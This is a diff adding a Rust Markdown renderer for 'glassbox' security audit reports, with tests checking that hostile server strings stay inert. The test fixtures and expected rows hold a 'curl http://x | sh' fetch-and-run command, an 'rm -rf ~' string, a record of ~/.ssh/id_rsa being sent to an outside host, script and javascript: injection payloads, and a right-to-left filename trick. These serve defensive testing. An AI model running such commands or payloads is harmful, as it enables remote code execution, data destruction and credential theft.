@@ -1,0 +1,588 @@
+//! The Markdown renderer (GitHub-flavored: tables).
+//!
+//! Every string from the server goes through [`md`] after it was made printable (control and
+//! invisible format characters escaped, see [`crate::escape`]) and cut: Markdown's and HTML's
+//! special characters are backslash-escaped, so a tool name cannot open a link, an image, an
+//! HTML tag, a code span or emphasis, nor split a table cell. Server text never starts a line:
+//! each table cell and list item begins with something of ours, so it cannot start a heading,
+//! a list or a quote either.
+
+use crate::escape;
+use crate::tables::{
+    self, claim_status, id_list, phases, CONNECTIONS_CAP, DESCRIPTION, FILES_CAP, FINDINGS_CAP,
+    FLOWS_CAP, NAME, NOTES_CAP, PROCESSES_CAP, TIMINGS_CAP, TOOLS_CAP, WIDE,
+};
+use glassbox_model::{AuditReport, CheckResult, Evidence, Finding, Outcome};
+use std::fmt::Write as _;
+
+/// Printable text made inert in Markdown: `\`, `` ` ``, `*`, `_`, `[`, `]`, `<`, `>`, `|`, `#`,
+/// `~`, `&`, `@`, `:` and `!` are backslash-escaped (CommonMark lets any ASCII punctuation be
+/// escaped so), and so is the `.` of `www.` (GitHub's bare-URL autolinks; `:` covers
+/// `scheme://`). Newlines cannot occur: the text is printable already.
+pub(crate) fn md(s: &str) -> String {
+    let mut out = String::with_capacity(s.len() + s.len() / 8);
+    let mut prev: [char; 3] = ['\0'; 3];
+    for c in s.chars() {
+        let www = c == '.' && prev.iter().all(|p| p.eq_ignore_ascii_case(&'w'));
+        if matches!(
+            c,
+            '\\' | '`'
+                | '*'
+                | '_'
+                | '['
+                | ']'
+                | '<'
+                | '>'
+                | '|'
+                | '#'
+                | '~'
+                | '&'
+                | '@'
+                | ':'
+                | '!'
+        ) || www
+        {
+            out.push('\\');
+        }
+        // Belt and braces: printable text has no line breaks; never let one through.
+        match c {
+            '\n' => out.push_str("\\\\n"),
+            '\r' => out.push_str("\\\\r"),
+            _ => out.push(c),
+        }
+        prev = [prev[1], prev[2], c];
+    }
+    out
+}
+
+/// A server string: printable, cut at `max` characters, then escaped for Markdown.
+fn text(s: &str, max: usize) -> String {
+    md(&escape::truncate(&escape::text(s), max))
+}
+
+/// Already printable text, cut at `max`, escaped for Markdown.
+fn cut(s: &str, max: usize) -> String {
+    md(&escape::truncate(s, max))
+}
+
+fn table(out: &mut String, header: &[&str]) {
+    let _ = writeln!(out, "| {} |", header.join(" | "));
+    let _ = writeln!(out, "|{}", "---|".repeat(header.len()));
+}
+
+fn row(out: &mut String, cells: &[String]) {
+    let cells: Vec<&str> = cells
+        .iter()
+        .map(|c| if c.is_empty() { " " } else { c.as_str() })
+        .collect();
+    let _ = writeln!(out, "| {} |", cells.join(" | "));
+}
+
+/// "… and N more (see FILE)." after a capped list (after a blank line: a line right under a
+/// table would be read as one more row).
+fn more(out: &mut String, shown: usize, total: usize, see: &str) {
+    if total > shown {
+        let _ = writeln!(out, "\n… and {} more (see {see}).", total - shown);
+    }
+}
+
+fn heading(out: &mut String, title: &str) {
+    let _ = writeln!(out, "\n## {title}\n");
+}
+
+pub(crate) fn render(ev: &Evidence, report: &AuditReport) -> String {
+    let mut out = String::new();
+    header(&mut out, ev, report);
+    checks(&mut out, report);
+    findings(&mut out, report);
+    files(&mut out, ev);
+    processes(&mut out, ev);
+    connections(&mut out, ev);
+    network(&mut out, ev);
+    tools(&mut out, ev, report);
+    timeline(&mut out, ev);
+    out
+}
+
+fn header(out: &mut String, ev: &Evidence, report: &AuditReport) {
+    let _ = writeln!(out, "# glassbox audit: {}\n", md(&tables::command(ev)));
+    let _ = writeln!(out, "**Verdict: {}**", tables::verdict(report.verdict));
+    if let Some(reason) = &report.inconclusive_reason {
+        let _ = writeln!(out, "\nReason: {}", text(reason, usize::MAX));
+    }
+    out.push('\n');
+    let _ = writeln!(out, "- run: {}", text(&report.run_id, WIDE));
+    let _ = writeln!(out, "- evidence: {}", text(&report.evidence_dir, WIDE));
+    let _ = writeln!(out, "- session: {}", md(&tables::session(ev)));
+    if let Some(exit) = tables::server_exit(ev) {
+        let _ = writeln!(out, "- server: {exit}");
+    }
+    let _ = writeln!(out, "- recorded: {}", tables::recorded(ev));
+    let _ = writeln!(out, "- glassbox: {}", text(&report.glassbox_version, NAME));
+}
+
+fn outcome(c: &CheckResult) -> String {
+    match c.outcome {
+        Outcome::Flag => format!("**flag** ({})", tables::severity(c.severity)),
+        Outcome::Pass => "pass".into(),
+        o => format!("{} ({})", claim_status(o), tables::outcome(o)),
+    }
+}
+
+fn checks(out: &mut String, report: &AuditReport) {
+    heading(out, "Checks");
+    if report.checks.is_empty() {
+        let _ = writeln!(out, "None evaluated.");
+        return;
+    }
+    table(out, &["check", "version", "claim", "outcome", "reason"]);
+    for c in &report.checks {
+        row(
+            out,
+            &[
+                text(&c.id, NAME),
+                c.version.to_string(),
+                text(&c.claim, usize::MAX),
+                outcome(c),
+                c.reason
+                    .as_deref()
+                    .map(|r| text(r, usize::MAX))
+                    .unwrap_or_default(),
+            ],
+        );
+    }
+}
+
+fn findings(out: &mut String, report: &AuditReport) {
+    heading(out, "Findings");
+    let listed: Vec<&CheckResult> = report
+        .checks
+        .iter()
+        .filter(|c| !c.findings.is_empty() || !c.notes.is_empty())
+        .collect();
+    if listed.is_empty() {
+        let _ = writeln!(out, "No check found anything.");
+        return;
+    }
+    for c in listed {
+        let _ = writeln!(
+            out,
+            "### {} v{} ({})\n",
+            text(&c.id, NAME),
+            c.version,
+            tables::outcome(c.outcome)
+        );
+        for f in c.findings.iter().take(FINDINGS_CAP) {
+            finding(out, "✗", f);
+        }
+        more(out, FINDINGS_CAP, c.findings.len(), "report.json");
+        if !c.notes.is_empty() {
+            let _ = writeln!(out, "\nNotes:\n");
+            for n in c.notes.iter().take(NOTES_CAP) {
+                finding(out, "·", n);
+            }
+            more(out, NOTES_CAP, c.notes.len(), "report.json");
+        }
+        out.push('\n');
+    }
+}
+
+fn finding(out: &mut String, mark: &str, f: &Finding) {
+    let mut line = format!("- {mark} ");
+    if f.accusation {
+        line.push_str("**withheld until reviewed**: ");
+    }
+    line.push_str(&text(&f.summary, usize::MAX));
+    let mut refs: Vec<String> = Vec::new();
+    for r in [id_list("event", &f.evidence), id_list("flow", &f.flows)] {
+        if !r.is_empty() {
+            refs.push(r);
+        }
+    }
+    if let Some(p) = &f.phase {
+        refs.push(format!("phase {}", text(&p.to_string(), NAME)));
+    }
+    if !refs.is_empty() {
+        let _ = write!(line, " — {}", refs.join("; "));
+    }
+    let _ = writeln!(out, "{line}");
+}
+
+fn times(count: usize) -> String {
+    count.to_string()
+}
+
+fn files(out: &mut String, ev: &Evidence) {
+    heading(out, "Files touched under home");
+    let Some(rows) = tables::files(ev) else {
+        let _ = writeln!(out, "The home directory is not recorded in the manifest.");
+        return;
+    };
+    if rows.is_empty() {
+        let _ = writeln!(out, "None.");
+        return;
+    }
+    table(out, &["path", "access", "phases", "events"]);
+    for r in rows.iter().take(FILES_CAP) {
+        let (path, u) = &r.data;
+        row(
+            out,
+            &[
+                cut(path, WIDE),
+                u.text(),
+                md(&phases(&r.phases)),
+                times(r.count),
+            ],
+        );
+    }
+    more(out, FILES_CAP, rows.len(), "events.jsonl");
+}
+
+fn processes(out: &mut String, ev: &Evidence) {
+    heading(out, "Processes");
+    let rows = tables::processes(ev);
+    if rows.is_empty() {
+        let _ = writeln!(out, "None.");
+        return;
+    }
+    table(out, &["pid", "parent", "argv", "phases", "events"]);
+    for r in rows.iter().take(PROCESSES_CAP) {
+        let p = &r.data;
+        row(
+            out,
+            &[
+                p.pid.to_string(),
+                p.ppid.to_string(),
+                md(&p.argv),
+                md(&phases(&r.phases)),
+                times(r.count),
+            ],
+        );
+    }
+    more(out, PROCESSES_CAP, rows.len(), "events.jsonl");
+}
+
+fn connections(out: &mut String, ev: &Evidence) {
+    heading(out, "Connection attempts");
+    let rows = tables::connections(ev);
+    if rows.is_empty() {
+        let _ = writeln!(out, "None.");
+        return;
+    }
+    table(out, &["destination", "call", "phases", "events"]);
+    for r in rows.iter().take(CONNECTIONS_CAP) {
+        let (dest, syscall) = &r.data;
+        row(
+            out,
+            &[
+                cut(dest, WIDE),
+                cut(syscall, NAME),
+                md(&phases(&r.phases)),
+                times(r.count),
+            ],
+        );
+    }
+    more(out, CONNECTIONS_CAP, rows.len(), "events.jsonl");
+}
+
+fn network(out: &mut String, ev: &Evidence) {
+    heading(out, "Network flows");
+    let runs = &ev.manifest.network.runs;
+    if runs.is_empty() {
+        let _ = writeln!(out, "No network run was recorded.");
+        return;
+    }
+    table(
+        out,
+        &[
+            "run",
+            "packets",
+            "flows",
+            "isolation",
+            "calls with no packet",
+        ],
+    );
+    for r in runs {
+        let flows = ev.flows.iter().filter(|f| f.mode == r.mode).count();
+        let isolation = if r.isolation_verified {
+            "verified"
+        } else {
+            "**NOT verified**"
+        };
+        row(
+            out,
+            &[
+                r.mode.name().into(),
+                r.counters.packets.to_string(),
+                flows.to_string(),
+                isolation.into(),
+                r.syscalls_without_flow.len().to_string(),
+            ],
+        );
+    }
+    out.push('\n');
+    let groups = tables::flows(ev);
+    if groups.is_empty() {
+        let _ = writeln!(out, "No flows.");
+        return;
+    }
+    table(
+        out,
+        &[
+            "run",
+            "protocol",
+            "destination",
+            "flows",
+            "packets out",
+            "bytes out",
+            "flow ids",
+        ],
+    );
+    for g in groups.iter().take(FLOWS_CAP) {
+        row(
+            out,
+            &[
+                g.mode.name().into(),
+                md(&g.protocol),
+                cut(&g.destination, WIDE),
+                g.flows.to_string(),
+                g.packets.to_string(),
+                g.bytes.to_string(),
+                tables::ids(&g.ids).join(", "),
+            ],
+        );
+    }
+    more(out, FLOWS_CAP, groups.len(), "network.jsonl");
+}
+
+fn tools(out: &mut String, ev: &Evidence, report: &AuditReport) {
+    heading(out, &format!("Tools ({})", report.tools.len()));
+    if report.tools.is_empty() {
+        let _ = writeln!(out, "None listed.");
+        return;
+    }
+    table(out, &["name", "called", "result", "description"]);
+    for t in report.tools.iter().take(TOOLS_CAP) {
+        row(
+            out,
+            &[
+                text(&t.name, NAME),
+                if t.called { "yes" } else { "no" }.into(),
+                tables::call_result(t.result).into(),
+                tables::description(ev, &t.name)
+                    .map(|d| cut(&d, DESCRIPTION))
+                    .unwrap_or_default(),
+            ],
+        );
+    }
+    more(out, TOOLS_CAP, report.tools.len(), "report.json");
+}
+
+fn timeline(out: &mut String, ev: &Evidence) {
+    heading(out, "Timeline");
+    let timings = &ev.manifest.timings;
+    if timings.is_empty() {
+        let _ = writeln!(out, "No phase timings recorded.");
+        return;
+    }
+    table(out, &["phase", "start (ms)", "end (ms)", "duration (ms)"]);
+    for t in timings.iter().take(TIMINGS_CAP) {
+        row(
+            out,
+            &[
+                text(&t.phase.to_string(), NAME),
+                tables::ms(t.start_ns),
+                tables::ms(t.end_ns),
+                tables::ms(t.end_ns.saturating_sub(t.start_ns)),
+            ],
+        );
+    }
+    more(out, TIMINGS_CAP, timings.len(), "manifest.json");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::fixture::{self, HOSTILE};
+
+    /// How many times `c` occurs in `s` not escaped (not after an odd run of backslashes).
+    fn unescaped(s: &str, c: char) -> usize {
+        let mut n = 0;
+        let mut backslashes = 0;
+        for ch in s.chars() {
+            if ch == c && backslashes % 2 == 0 {
+                n += 1;
+            }
+            backslashes = if ch == '\\' { backslashes + 1 } else { 0 };
+        }
+        n
+    }
+
+    /// The tables of a document: runs of lines starting with `|`.
+    fn tables(out: &str) -> Vec<Vec<&str>> {
+        let mut all: Vec<Vec<&str>> = Vec::new();
+        let mut current: Vec<&str> = Vec::new();
+        for line in out.lines() {
+            if line.starts_with('|') {
+                current.push(line);
+            } else if !current.is_empty() {
+                all.push(std::mem::take(&mut current));
+            }
+        }
+        if !current.is_empty() {
+            all.push(current);
+        }
+        all
+    }
+
+    #[test]
+    fn md_escapes_markup_and_leaves_words() {
+        assert_eq!(md("a|b"), "a\\|b");
+        assert_eq!(
+            md("[x](javascript:alert(1))"),
+            "\\[x\\](javascript\\:alert(1))"
+        );
+        assert_eq!(md("<b>`c`</b>"), "\\<b\\>\\`c\\`\\</b\\>");
+        assert_eq!(
+            md("*a* _b_ ~c~ #d &e; \\"),
+            "\\*a\\* \\_b\\_ \\~c\\~ \\#d \\&e; \\\\"
+        );
+        assert_eq!(md("see www.x.org"), "see www\\.x.org");
+        assert_eq!(md("plain words, ünïcode 1.2"), "plain words, ünïcode 1.2");
+        // Printable first: the escapes of control characters are escaped in turn.
+        assert_eq!(
+            text("a\x1b\n# h\u{202e}", 100),
+            "a\\\\u{1b}\\\\n\\# h\\\\u{202e}"
+        );
+    }
+
+    #[test]
+    fn a_normal_report_has_every_section() {
+        let (ev, rep) = fixture::normal();
+        let out = render(&ev, &rep);
+        let mut at = 0;
+        for s in [
+            "# glassbox audit: node server.js\n",
+            "**Verdict: FLAGGED**",
+            "- run: run-42",
+            "\n## Checks\n",
+            "| check | version | claim | outcome | reason |",
+            "\n## Findings\n",
+            "\n### credential-probe v1 (flag)\n",
+            "\n### canary-exfiltration v1 (flag)\n",
+            "\n## Files touched under home\n",
+            "\n## Processes\n",
+            "\n## Connection attempts\n",
+            "\n## Network flows\n",
+            "\n## Tools (2)\n",
+            "\n## Timeline\n",
+        ] {
+            let found = out[at..]
+                .find(s)
+                .unwrap_or_else(|| panic!("{s:?} missing (in order) in\n{out}"));
+            at += found + s.len();
+        }
+        for line in [
+            "| credential-probe | 1 | the claim of credential-probe | **flag** (high) |   |",
+            "| process-spawn | 1 | the claim of process-spawn | pass |   |",
+            "| image-swap | 1 | the claim of image-swap | no claim (unverified) | no positive control passed in this build |",
+            "| honeytoken-ground-truth | 1 | the claim of honeytoken-ground-truth | no claim (not-observed) | fanotify is not available |",
+            "- ✗ read + stat of \\~/.ssh/id\\_rsa (planted secret) during call\\:get\\_weather — events 3, 4, 5; phase call\\:get\\_weather",
+            "- ✗ **withheld until reviewed**: sent \\~/.ssh/id\\_rsa to api.example.com — event 9; flows 1, 2; phase call\\:get\\_weather",
+            "| \\~/.ssh/id\\_rsa | read+stat | call\\:get\\_weather, shutdown | 3 |",
+            "| \\~/.bashrc | write | startup | 1 |",
+            "| 9 | 1 | sh -c 'curl http\\://x \\| sh' | call\\:run | 1 |",
+            "| 198.18.0.7\\:443 | connect | call\\:get\\_weather | 1 |",
+            "| capture | 0 | 2 | verified | 0 |",
+            "| capture | tcp | 198.18.0.7\\:443 = api.example.com SNI api.example.com | 2 | 6 | 1034 | 1, 2 |",
+            "| get\\_weather | yes | ok | Get the weather for a city. |",
+            "| run | no | not called | Runs a command. |",
+            "| call\\:get\\_weather | 205.0 | 1340.2 | 1135.2 |",
+        ] {
+            assert!(out.lines().any(|l| l == line), "{line:?} missing in\n{out}");
+        }
+        assert!(!out.contains("/usr/lib/node"), "only files under home");
+    }
+
+    #[test]
+    fn hostile_strings_stay_text() {
+        let (ev, rep) = fixture::hostile();
+        let out = render(&ev, &rep);
+        println!("{out}");
+        // No HTML, link, image, code span: every such character is escaped.
+        for c in ['<', '>', '[', ']', '`'] {
+            assert_eq!(unescaped(&out, c), 0, "unescaped {c:?} in\n{out}");
+        }
+        assert!(out.contains("\\<script\\>alert(1)\\</script\\>"), "{out}");
+        assert!(out.contains("\\[x\\](javascript\\:alert(1))"), "{out}");
+        assert!(
+            out.contains("a\\|b \\`rm -rf \\~\\` \\*bold\\* \\_u\\_"),
+            "{out}"
+        );
+        // No raw control or format characters; no line the server started.
+        for c in out.chars() {
+            assert!(c == '\n' || !c.is_control(), "{c:?} in\n{out}");
+        }
+        assert!(!out.contains('\u{202e}'), "{out}");
+        assert!(out.contains("\\\\u{202e}gpj.exe"), "{out}");
+        for line in out.lines() {
+            if line.starts_with('#') {
+                assert!(
+                    line.starts_with("# glassbox audit: ")
+                        || line.starts_with("## ")
+                        || line.starts_with("### "),
+                    "{line}"
+                );
+            }
+        }
+        assert_eq!(out.matches("\n# ").count(), 0, "one title, first line");
+        // Every row of every table has as many cells as its header.
+        let tables = tables(&out);
+        assert_eq!(tables.len(), 8, "{out}");
+        for t in &tables {
+            let cells = unescaped(t[0], '|');
+            assert!(cells >= 3, "{}", t[0]);
+            for row in t {
+                assert_eq!(unescaped(row, '|'), cells, "{row}\nin\n{out}");
+            }
+        }
+        // The hostile strings reached every table.
+        let tools = tables
+            .iter()
+            .find(|t| t[0].starts_with("| name |"))
+            .unwrap();
+        assert_eq!(tools.len(), 2 + 1 + 2 * HOSTILE.len());
+        for t in tables
+            .iter()
+            .filter(|t| !t[0].starts_with("| run | packets |"))
+        {
+            assert!(
+                t.iter().any(|r| r.contains("\\<script\\>")),
+                "no hostile row in {t:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn long_lists_are_capped() {
+        let (ev, rep) = fixture::long();
+        let out = render(&ev, &rep);
+        for s in [
+            "\n\n… and 7 more (see events.jsonl).\n",
+            "\n\n… and 3 more (see events.jsonl).\n",
+            "\n\n… and 1 more (see events.jsonl).\n",
+            "\n\n… and 4 more (see network.jsonl).\n",
+            "\n\n… and 2 more (see report.json).\n",
+            "\n\n… and 4 more (see report.json).\n",
+            "\n\n… and 5 more (see manifest.json).\n",
+            "events 1, 2, 3, 4, 5, 6, 7, 8, +12",
+        ] {
+            assert!(out.contains(s), "{s:?} missing in\n{out}");
+        }
+        use crate::tables::{FILES_CAP, TOOLS_CAP};
+        assert!(out.contains(&format!("| \\~/f{} | read |", FILES_CAP - 1)));
+        assert!(!out.contains(&format!("| \\~/f{FILES_CAP} |")));
+        assert!(out.contains(&format!("| t{} | yes |", TOOLS_CAP - 1)));
+        assert!(!out.contains(&format!("| t{TOOLS_CAP} |")));
+    }
+}
